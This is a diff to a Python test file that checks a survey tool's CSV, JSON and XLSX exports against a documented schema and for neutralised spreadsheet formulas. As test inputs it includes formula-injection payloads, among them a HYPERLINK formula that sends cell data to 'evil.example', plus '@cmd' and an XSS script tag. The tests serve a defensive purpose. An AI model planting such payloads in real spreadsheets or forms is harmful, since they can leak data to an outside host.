@@ -5,10 +5,15 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
+from pathlib import Path
+from typing import Any
 
 import pytest
 from openpyxl import load_workbook
 
+from quickscan import export_schema
+from quickscan.extensions import db
 from quickscan.services import exports
 from quickscan.services.results import score
 from tests.results.conftest import INJECTIONS
@@ -89,27 +94,67 @@ def test_json_nulls_where_nothing_is_scored(app) -> None:
     assert data["responses"] == [] and data["priorities"] == []
 
 
+def read_csv(data: bytes) -> list[list[str]]:
+    """Read a CSV export as Dutch Excel does: BOM, ``;``-separated, every field quoted."""
+    assert data.startswith("\ufeff".encode())
+    text = data.decode("utf-8-sig")
+    for line in text.split("\r\n")[:2]:
+        assert line.startswith('"') and line.endswith('"'), line  # every field quoted
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
+
+
+def number(cell: str) -> float:
+    """A CSV number with a decimal comma."""
+    assert "." not in cell, cell
+    return float(cell.replace(",", "."))
+
+
 def test_csv_tables_agree_with_the_engine_and_neutralise_formulas(app, built_round) -> None:
     round_ = built_round.round
     result = score(round_)
-    rows = list(csv.reader(io.StringIO(exports.to_csv(round_, "scores").decode("utf-8-sig"))))
+    rows = read_csv(exports.to_csv(round_, "scores"))
     header = rows[0]
     scored = {(r[0], r[1], r[3]): r for r in rows[1:]}
     for department in result.departments:
         for theme in department.themes():
             row = scored[(department.name, theme.bank_id, theme.theme_id)]
             value = row[header.index("score")]
-            assert (value == "" and theme.score is None) or float(value) == theme.score
-    priorities = list(csv.reader(io.StringIO(
-        exports.to_csv(round_, "priorities").decode("utf-8-sig"))))
+            assert (value == "" and theme.score is None) or number(value) == theme.score
+    priorities = read_csv(exports.to_csv(round_, "priorities"))
     assert len(priorities) == len(result.priorities) + 1
-    answers = exports.to_csv(round_, "answers").decode("utf-8-sig")
-    cells = [cell for row in csv.reader(io.StringIO(answers)) for cell in row]
+    cells = [cell for row in read_csv(exports.to_csv(round_, "answers")) for cell in row]
     for cell in cells:
         assert not cell.startswith(FORMULA_STARTS), cell
     assert "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"klik\")" in cells
     assert "'@cmd" in cells and "'-2+3" in cells and "'\t=1+1" in cells
     assert "<script>alert('xss')</script>" in cells  # plain text in CSV
+
+
+def test_csv_neutralises_formulas_after_every_separator(app) -> None:
+    """``zie beleid;=HYPERLINK(…)`` must not become a live formula however the line is split:
+    not by a CSV reader, and not by a reader that splits on ``;`` and line breaks, ignoring
+    the quotes."""
+    from tests.results.conftest import build_round
+
+    tricky = ['zie beleid;=HYPERLINK("http://evil.example","klik")', "a;+1;-2;@x",
+              "regel\n=1+1", "regel\r\n@SUM(A1)", "x;\t=1"]
+    built = build_round([("Wonen", ["bestuur"])], respondents=2, drafts=0,
+                        comments=tricky, name="Ronde;=1+1")
+    data = exports.to_csv(built.round, "answers")
+    cells = [cell for row in read_csv(data) for cell in row]
+    assert "zie beleid;'=HYPERLINK(\"http://evil.example\",\"klik\")" in cells
+    assert "a;'+1;'-2;'@x" in cells and "regel\n'=1+1" in cells
+    naive = [piece.strip('"') for line in data.decode("utf-8-sig").splitlines()
+             for piece in line.split(";")]
+    assert naive and not [p for p in naive if p.startswith(FORMULA_STARTS)]
+
+
+def test_csv_numbers_use_a_decimal_comma() -> None:
+    assert exports.csv_cell(41.25) == "41,25"
+    assert exports.csv_cell(75.0) == "75,0"
+    assert exports.csv_cell(1e-17) == "0,00000000000000001"
+    assert exports.csv_cell(7) == "7" and exports.csv_cell(None) == ""
+    assert exports.csv_cell("-2+3") == "'-2+3"
 
 
 def test_xlsx_has_no_formulas(app, built_round) -> None:
@@ -173,3 +218,131 @@ def test_cli_report_and_export(app, built_round, tmp_path) -> None:
     result = runner.invoke(args=["export", "999", "--format", "json", "--out",
                                  str(tmp_path / "y.json")])
     assert result.exit_code == 1
+
+
+# --------------------------------------------------------------------------- schema and docs
+
+DOC = Path(__file__).resolve().parents[2] / "docs" / "export.md"
+ROW_RE = re.compile(r"^\| `([a-z0-9_.\[\]]+)` \| ((?:[^|\\]|\\.)+) \|")
+
+
+def _type_of(node: dict[str, Any], defs: dict[str, Any]) -> str:
+    """A JSON Schema node as the doc's type column writes it."""
+    while "$ref" in node:
+        node = defs[node["$ref"].rsplit("/", 1)[-1]]
+    if "anyOf" in node:
+        kinds = [_type_of(n, defs) for n in node["anyOf"]]
+        return " or ".join(kinds)
+    if "const" in node or "enum" in node:
+        return " or ".join(f'"{v}"' for v in node.get("enum", [node.get("const")]))
+    kind = node.get("type")
+    if kind in ("integer", "number"):
+        low, high = node.get("minimum"), node.get("maximum")
+        if high == export_schema.MAX_ID:
+            return f"{kind} ≥ {low}"
+        return f"{kind} {round(low)}–{round(high)}"
+    if kind == "string":
+        if "format" in node:
+            return node["format"]
+        if "pattern" in node:
+            return f"`{node['pattern']}`"
+        return f"text {node.get('minLength', 0)}–{node['maxLength']}"
+    if kind == "array" and "$ref" not in node["items"]:
+        return f"array of {_type_of(node['items'], defs)}"
+    if kind == "object" and node.get("patternProperties"):
+        ((pattern, value),) = node["patternProperties"].items()
+        return f"object: `{pattern}` → {_type_of(value, defs)}"
+    if kind == "object" and isinstance(node.get("additionalProperties"), dict):
+        return f"object: text → {_type_of(node['additionalProperties'], defs)}"
+    if kind == "object" and node.get("additionalProperties") is True:
+        return "object (free form)"
+    return str(kind)
+
+
+def _schema_rows() -> dict[str, str]:
+    """Every field path of the model's JSON Schema with its type; ``draft_responses[]`` has
+    the shape of ``responses[]`` and is not repeated."""
+    schema = export_schema.ExportDocument.model_json_schema()
+    defs = schema["$defs"]
+    rows: dict[str, str] = {}
+
+    def walk(node: dict[str, Any], path: str) -> None:
+        while "$ref" in node:
+            node = defs[node["$ref"].rsplit("/", 1)[-1]]
+        for option in node.get("anyOf", []):
+            if option.get("type") != "null":
+                walk(option, path)
+        if node.get("type") == "array":
+            if path == "draft_responses":
+                assert node["items"] == schema["properties"]["responses"]["items"]
+                return
+            walk(node["items"], path + "[]")
+        for key, value in node.get("properties", {}).items():
+            child = f"{path}.{key}" if path else key
+            rows[child] = _type_of(value, defs)
+            walk(value, child)
+
+    walk(schema, "")
+    return rows
+
+
+def _doc_rows() -> dict[str, str]:
+    rows = {}
+    for line in DOC.read_text(encoding="utf-8").splitlines():
+        match = ROW_RE.match(line)
+        if match:
+            assert match.group(1) not in rows, f"{match.group(1)} documented twice"
+            rows[match.group(1)] = match.group(2).strip().replace("\\|", "|")
+    return rows
+
+
+def test_documented_format_is_the_model() -> None:
+    """Every field of docs/export.md's field table is in the model's JSON Schema with the
+    documented type, and every field of the schema is documented."""
+    documented, schema = _doc_rows(), _schema_rows()
+    assert sorted(set(documented) - set(schema)) == []  # documented but not in the model
+    assert sorted(set(schema) - set(documented)) == []  # in the model but not documented
+    assert {path: documented[path] for path in schema} == schema
+
+
+def test_model_refuses_unknown_fields_everywhere_but_the_free_form_objects() -> None:
+    schema = export_schema.ExportDocument.model_json_schema()
+    for name, definition in schema["$defs"].items():
+        assert definition.get("additionalProperties") is False, name
+    free = {path for path, kind in _schema_rows().items() if "free form" in kind}
+    assert free == {"round.banks[].content"}
+
+
+def test_limits_are_the_web_forms_limits() -> None:
+    from quickscan.models import COMMENT_MAX_LENGTH
+    from quickscan.services import rounds
+
+    assert export_schema.NAME_MAX_LENGTH == rounds.NAME_MAX_LENGTH
+    assert export_schema.DESCRIPTION_MAX_LENGTH == rounds.DESCRIPTION_MAX_LENGTH
+    assert export_schema.COMMENT_MAX_LENGTH == COMMENT_MAX_LENGTH
+
+
+def test_schema_module_is_pure() -> None:
+    source = Path(export_schema.__file__).read_text(encoding="utf-8")
+    assert not re.search(r"^\s*(from|import) (flask|sqlalchemy|quickscan)", source, re.MULTILINE)
+
+
+def test_export_validates_against_the_model(app, built_round) -> None:
+    data = json.loads(exports.to_json(built_round.round))
+    document = export_schema.ExportDocument.model_validate(data)
+    assert document.dump() == data
+
+
+def test_export_of_older_data_never_fails_and_the_import_refuses_it(app) -> None:
+    """A name stored before names refused bidi overrides still exports; the import, which
+    validates names as the web forms do today, refuses it with its path."""
+    from quickscan.services.importer import ImportFileError, import_round
+    from tests.results.conftest import build_round
+
+    built = build_round([("Wonen\u202egnineeg", ["bestuur"])], respondents=1, drafts=0)
+    data = json.loads(exports.to_json(built.round))
+    assert data["departments"][0]["name"] == "Wonen\u202egnineeg"
+    db.session.delete(built.round)
+    db.session.commit()
+    with pytest.raises(ImportFileError, match=r"departments\[0\]\.name: contains a control"):
+        import_round(data, "secret")
